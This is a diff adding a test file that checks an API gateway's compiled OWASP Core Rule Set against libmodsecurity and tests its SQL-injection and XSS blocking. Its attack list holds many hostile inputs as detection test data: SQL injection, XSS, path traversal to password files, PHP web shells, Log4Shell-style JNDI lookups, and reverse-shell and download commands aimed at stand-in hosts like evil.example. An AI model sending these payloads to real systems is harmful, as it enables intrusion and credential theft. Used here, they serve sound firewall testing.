@@ -1,0 +1,140 @@
+/** The OWASP CRS compiled into a gateway, rule by rule against libmodsecurity, over attacks and harmless requests; SqliMatch and XssMatch. */
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { loadCrs } from '../../crs/index.js';
+import { compile } from '../../index.js';
+import { startBackend } from '../../testing/backend.js';
+import { rawRequest, runGateway } from '../../testing/running-gateway.js';
+import { libmodsecurity } from '../../../runtime/waf/testing/libmodsecurity.js';
+
+const test = suite('OWASP CRS');
+/** Where Debian's modsecurity-crs has it. */
+const CRS = process.env['CRS'] ?? '/usr/share/modsecurity-crs/rules';
+const isThere = existsSync(CRS);
+const folder = mkdtempSync(join(tmpdir(), 'gwc-crs-'));
+test.after(() => rmSync(folder, { recursive: true }));
+
+const NONE = [{ Priority: 0, Type: 'NONE' }];
+const VISIBILITY = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'm' };
+const acl = (...Rules: unknown[]): object => ({ Name: 'acl', DefaultAction: { Allow: {} }, VisibilityConfig: VISIBILITY, Rules: Rules.map((rule, Priority) => ({ Name: `rule${Priority}`, Priority, VisibilityConfig: VISIBILITY, ...(rule as object) })) });
+
+async function gatewayOf(webAcl: object, upstream: string) {
+  const path = join(folder, 'spec.json');
+  const operation = { responses: { 200: { description: 'ok' } }, 'x-amazon-apigateway-integration': { type: 'http_proxy', httpMethod: 'ANY', uri: `${upstream}/` } };
+  writeFileSync(path, JSON.stringify({ openapi: '3.0.1', info: { title: 't', version: '1' }, 'x-gwc-flavour': 'rest', 'x-gwc': { webAcl }, paths: { '/': { 'x-amazon-apigateway-any-method': operation }, '/{proxy+}': { parameters: [{ name: 'proxy', in: 'path', required: true, schema: { type: 'string' } }], 'x-amazon-apigateway-any-method': operation } } }));
+  const { bundle, diagnostics } = await compile(path, { clients: [], crs: CRS });
+  assert.ok(bundle, JSON.stringify(diagnostics));
+  return { gateway: await runGateway(bundle.code), diagnostics };
+}
+
+const ATTACKS = [
+  "' or 1=1--", "1' UNION SELECT username, password FROM users--", '1; DROP TABLE users', "'; exec xp_cmdshell('dir')--", "1 AND SLEEP(5)", "1 and benchmark(10000000,md5(1))", 'select * from information_schema.tables', "admin'/*", '1 waitfor delay \'0:0:5\'', "' and extractvalue(1,concat(0x7e,version()))--",
+  "1' having 1=1", 'load_file(0x2f6574632f706173737764)', "' or 'a'='a", '%2527%20or%201=1', "-1' union/**/all/**/select/**/1,2", "1' or pg_sleep(5)--", 'northwind', "'; shutdown --", 'procedure analyse(', 'sqlite_master',
+  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'javascript:alert(1)', '<iframe src=javascript:alert(1)>', '"><script src=//evil.example>', '<body onload=alert(1)>', '&lt;script&gt;alert(1)', '\\u003cscript\\u003e', '<a href="java&#x0a;script:alert(1)">', '<style>@import url(evil)</style>', '<object data=x>', '<meta http-equiv=refresh>', 'document.cookie', '<applet code=x>', '<link rel=stylesheet href=x>', '<base href=//evil>', 'vbscript:msgbox(1)', '<x style=expression(alert(1))>', '+ADw-script+AD4-',
+  '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '/etc/shadow', '....//....//etc/hosts', 'c:\\boot.ini', '.htaccess', '/proc/self/environ', 'http://127.0.0.1/x.txt?', 'ftp://user@evil.example/shell.txt', 'http://evil.example/shell.txt?cmd=id',
+  '; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example)', '&& ping -c 1 127.0.0.1', '() { :;}; /bin/bash', 'cmd.exe /c dir', ';wget http://evil/x', 'powershell.exe -enc', '/bin/sh -c id', '; ls -la', 'nc -e /bin/sh 1.2.3.4 99', '&net user', 'python -c "import os"',
+  '<?php system($_GET[1]); ?>', 'phpinfo()', 'eval(base64_decode($_POST[x]))', 'php://input', '$_SERVER[PATH]', 'O:8:"stdClass":0:{}', 'allow_url_include=1', 'shell_exec(1)', 'data://text/plain;base64,xx', '$_GET["x"]',
+  '_$$ND_FUNC$$_function(){}', 'require("child_process").exec', 'process.env', '${jndi:ldap://evil.example/a}', 'java.lang.Runtime', 'java.lang.ProcessBuilder', '#{7*7}', '%{(#a=@java.lang.Runtime@getRuntime())}', 'rO0ABXNyABFqYXZh', 'com.opensymphony.xwork2',
+  '\r\nSet-Cookie: a=b', '%0d%0aLocation: x', 'HTTP/1.1 200 OK', '\n\nGET / HTTP/1.1', '.cookie; expires=', '<!--#exec cmd="ls"-->', '%00', 'a\u0001b', '(&(uid=*)(userPassword=*))', '*)(uid=*))(|(uid=*',
+];
+const HARMLESS = [
+  'hello world', "O'Reilly", 'a & b', '5 > 3', 'select a colour', 'union station', 'order by phone', 'Café', '日本語', 'mail@example.com', 'https://example.com/a?b=c', '2024-01-01T00:00:00Z', '{"a": [1, 2]}', '1,2,3', '100%', 'C++ and C#', 'the cat sat', 'Lorem ipsum dolor sit amet, consectetur adipiscing elit.', 'x'.repeat(300), '-1', '3.14e10', 'yes/no', 'a=b', 'drop me a line', 'script writer', 'on error resume', 'user name', '550e8400-e29b-41d4-a716-446655440000', '+49 30 1234', '"quoted"',
+];
+
+interface Case { readonly method: string; readonly target: string; readonly fields: [string, string][]; readonly body: string }
+const BASE: readonly [string, string][] = [['Host', 'shop.example.com'], ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'], ['Accept', 'text/html,*/*']];
+
+/** The same text at several places. */
+function cases(): Case[] {
+  const encode = (text: string): string => encodeURIComponent(text).replace(/'/g, '%27');
+  const isField = (text: string): boolean => /^[\x20-\x7e]*$/.test(text) && text.trim() === text;
+  return [...ATTACKS, ...HARMLESS].flatMap((text): Case[] => [
+    { method: 'GET', target: `/shop?q=${encode(text)}&page=1`, fields: [...BASE], body: '' },
+    { method: 'GET', target: `/shop?${encode(text)}=1`, fields: [...BASE], body: '' },
+    { method: 'POST', target: '/order', fields: [...BASE, ['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(`note=${encode(text)}&id=7`.length)]], body: `note=${encode(text)}&id=7` },
+    ...(isField(text) && !text.includes(';') ? [{ method: 'GET', target: '/cart', fields: [...BASE, ['Cookie', `session=abc; last=${text}`] as [string, string]], body: '' }] : []),
+    ...(isField(text) ? [{ method: 'GET', target: '/list', fields: [BASE[0]!, ['User-Agent', text] as [string, string], BASE[2]!, ['Referer', text] as [string, string]], body: '' }] : []),
+    ...(/^[\x21-\x7e]+$/.test(text) && !/[?#%]/.test(text) ? [{ method: 'GET', target: `/files/${encode(text)}`, fields: [...BASE], body: '' }] : []),
+  ]);
+}
+
+test('which rules fire: as libmodsecurity', async () => {
+  if (!isThere) return console.log(`no CRS at ${CRS}: not compared`);
+  const crs = loadCrs(CRS, '/', { paranoiaLevel: 1, threshold: 5 });
+  assert.ok(typeof crs !== 'string', String(crs));
+  const ids = crs.rules(new Set()).rules.map(({ id }) => id);
+  assert.ok(ids.length > 80, String(ids.length));
+  const all = cases();
+  const theirs = libmodsecurity([
+    'SecRuleEngine DetectionOnly', 'SecRequestBodyAccess On', 'SecDefaultAction "phase:1,log,pass"', 'SecDefaultAction "phase:2,log,pass"', 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.crs_setup_version=330"',
+    ...['901', '911', '913', '920', '921', '930', '931', '932', '933', '934', '941', '942', '943', '944'].map((family) => `Include ${CRS}/REQUEST-${family}-*.conf`),
+  ].join('\n'), all.map(({ method, target, fields, body }) => ({ method, uri: target, headers: [...fields, ['Connection', 'close'] as const], body })));
+  if (!theirs) return console.log('libmodsecurity is not installed: not compared');
+
+  const backend = await startBackend();
+  const { gateway, diagnostics } = await gatewayOf(acl(
+    { Statement: { ManagedRuleGroupStatement: { VendorName: 'OWASP', Name: 'CRS' } }, OverrideAction: { Count: {} } },
+    ...ids.map((id) => ({ Statement: { LabelMatchStatement: { Scope: 'LABEL', Key: `awswaf:managed:owasp:crs:${id}` } }, Action: { Count: { CustomRequestHandling: { InsertHeaders: [{ Name: `crs-${id}`, Value: 'fired' }] } } } })),
+  ), backend.url);
+  try {
+    assert.match(diagnostics.find(({ code }) => code === 'GWC2973')?.message ?? '', /942100 \(@detectSQLi\)/);
+    const differences: string[] = [];
+    let firings = 0, compared = 0;
+    const distinct = new Set<string>();
+    for (const [index, { method, target, fields, body }] of all.entries()) {
+      backend.received.length = 0;
+      const { status } = await rawRequest(gateway.port, method, target, [...fields], body);
+      // What the server itself refuses (a control character in the path) no rule sees.
+      if (backend.received.length === 0) { assert.is(status, 400, target); continue; }
+      compared++;
+      const ours = Object.keys(backend.received[0]!.headers).flatMap((name) => /^x-amzn-waf-crs-(\d+)$/.exec(name)?.[1] ?? []).sort();
+      const expected = [...new Set(theirs[index]!.map(({ id }) => id))].filter((id) => ids.includes(id)).sort();
+      firings += ours.length;
+      for (const id of ours) distinct.add(id);
+      const more = ours.filter((id) => !expected.includes(id)), less = expected.filter((id) => !ours.includes(id));
+      if (more.length + less.length > 0) differences.push(`${method} ${target} ${JSON.stringify(fields.slice(3))} ${body}: too many ${more.join()}, missing ${less.join()}`);
+    }
+    if (process.env['VERBOSE']) console.log(`${compared} requests, ${firings} firings of ${distinct.size} rules, ${differences.length} differences`);
+    assert.equal(differences.slice(0, 10), [], `${differences.length} of ${compared}`);
+    assert.ok(compared > 500 && firings > 500 && distinct.size > 50, `${compared} requests, ${firings} firings of ${distinct.size} rules`);
+  } finally {
+    await gateway.stop();
+    await backend.close();
+  }
+});
+
+test('SqliMatch and XssMatch; the whole set blocks by its score', async () => {
+  if (!isThere) return console.log(`no CRS at ${CRS}: not tested`);
+  const backend = await startBackend();
+  const field = { FieldToMatch: { AllQueryArguments: {} }, TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }] };
+  const { gateway } = await gatewayOf(acl(
+    { Statement: { SqliMatchStatement: field }, Action: { Block: { CustomResponse: { ResponseCode: 490 } } } },
+    { Statement: { XssMatchStatement: field }, Action: { Block: { CustomResponse: { ResponseCode: 491 } } } },
+    { Statement: { XssMatchStatement: { FieldToMatch: { Body: {} }, TextTransformations: NONE } }, Action: { Block: { CustomResponse: { ResponseCode: 492 } } } },
+    { Statement: { ManagedRuleGroupStatement: { VendorName: 'OWASP', Name: 'CRS', ExcludedRules: [{ Name: '920350' }] } }, OverrideAction: { None: {} } },
+  ), backend.url);
+  const status = async (target: string, body = '', fields: [string, string][] = []): Promise<number> => (await rawRequest(gateway.port, body === '' ? 'GET' : 'POST', target, [...BASE, ...fields], body)).status;
+  try {
+    assert.is(await status('/?q=1%27%20UNION%20SELECT%20a%20FROM%20b--'), 490);
+    assert.is(await status('/?q=%3Cscript%3Ealert(1)%3C/script%3E'), 491);
+    assert.is(await status('/', '<script>alert(1)</script>', [['Content-Type', 'text/plain']]), 492);
+    assert.is(await status('/?file=../../etc/passwd'), 403);
+    assert.is(await status('/', '{"a": {"b": "; cat /etc/passwd"}}', [['Content-Type', 'application/json']]), 403);
+    assert.is(await status('/?q=hello'), 200);
+    assert.is(await status('/', '{"a": "hello"}', [['Content-Type', 'application/json']]), 200);
+    // Hostile texts take no time: what is matched is read once.
+    for (const text of ["'".repeat(16_000), '<a '.repeat(5_000), '('.repeat(16_000), 'select '.repeat(2_000), '/*'.repeat(8_000), 'a=&'.repeat(5_000)]) {
+      const started = performance.now();
+      await status('/', `x=${text}`, [['Content-Type', 'application/x-www-form-urlencoded']]);
+      assert.ok(performance.now() - started < 5_000, `${text.slice(0, 10)}: ${performance.now() - started} ms`);
+    }
+  } finally {
+    await gateway.stop();
+    await backend.close();
+  }
+});
+
+test.run();
